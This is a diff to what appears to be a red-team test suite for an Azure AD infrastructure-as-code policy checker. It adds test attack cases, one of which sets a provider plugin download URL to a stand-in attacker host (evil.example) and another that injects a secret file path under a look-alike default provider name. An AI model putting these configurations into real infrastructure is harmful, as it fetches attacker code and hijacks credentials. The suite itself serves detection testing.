@@ -760,6 +760,23 @@ def imported_exchange_online(app: AppRegistration) -> None:
     )
 
 
+def provider_named_default_with_a_secret_file(app: AppRegistration) -> None:
+    """R2-02: a name that looks like the engine's default provider, and an input not listed."""
+    azuread.Provider(
+        "default_tier0",
+        tenant_id=app.tenant_id,
+        client_id=app.client_id,
+        client_secret_file_path="/tmp/s",
+    )
+
+
+def provider_plugin_from_elsewhere(app: AppRegistration) -> None:
+    """R2-03: a provider plugin downloaded from the attacker's server."""
+    azuread.Provider(
+        "attack-plugin", opts=pulumi.ResourceOptions(plugin_download_url="https://evil.example/p/")
+    )
+
+
 def second_component(app: AppRegistration) -> None:
     """RT-52: one line, a second Tier-0 app of the same shape."""
     AppRegistration(
@@ -1137,7 +1154,7 @@ ATTACKS: Final[tuple[Attack, ...]] = (
     Attack(
         "rt48-provider-signed-in-as-the-app",
         _CREDENTIALS,
-        "an explicit provider that signs in with clientSecret",
+        "an explicit provider that chooses whom it signs in as (clientId, clientSecret)",
         ("attack-tier0",),
         provider_signed_in_as_the_app,
     ),
@@ -1187,7 +1204,7 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         "r2-10-twin-service-principal-importing-ours",
         "component-shape",
         "ServicePrincipal 'privilege-secure-service-principal-v2'",
-        ("privilege-secure-service-principal-v2",),
+        ("privilege-secure-service-principal-v2", "privilege-secure-service-principal"),
         twin_service_principal_importing_ours,
     ),
     Attack(
@@ -1196,6 +1213,20 @@ ATTACKS: Final[tuple[Attack, ...]] = (
         "ServicePrincipal 'privilege-secure-exchange'",
         ("privilege-secure-exchange",),
         imported_exchange_online,
+    ),
+    Attack(
+        "r2-02-provider-named-default-with-a-secret-file",
+        _CREDENTIALS,
+        "chooses whom it signs in as (clientId, clientSecretFilePath)",
+        ("default_tier0",),
+        provider_named_default_with_a_secret_file,
+    ),
+    Attack(
+        "r2-03-provider-plugin-from-elsewhere",
+        _CREDENTIALS,
+        "pluginDownloadURL is set (https://evil.example/p/)",
+        ("attack-plugin",),
+        provider_plugin_from_elsewhere,
     ),
     Attack(
         "rt52-second-component",
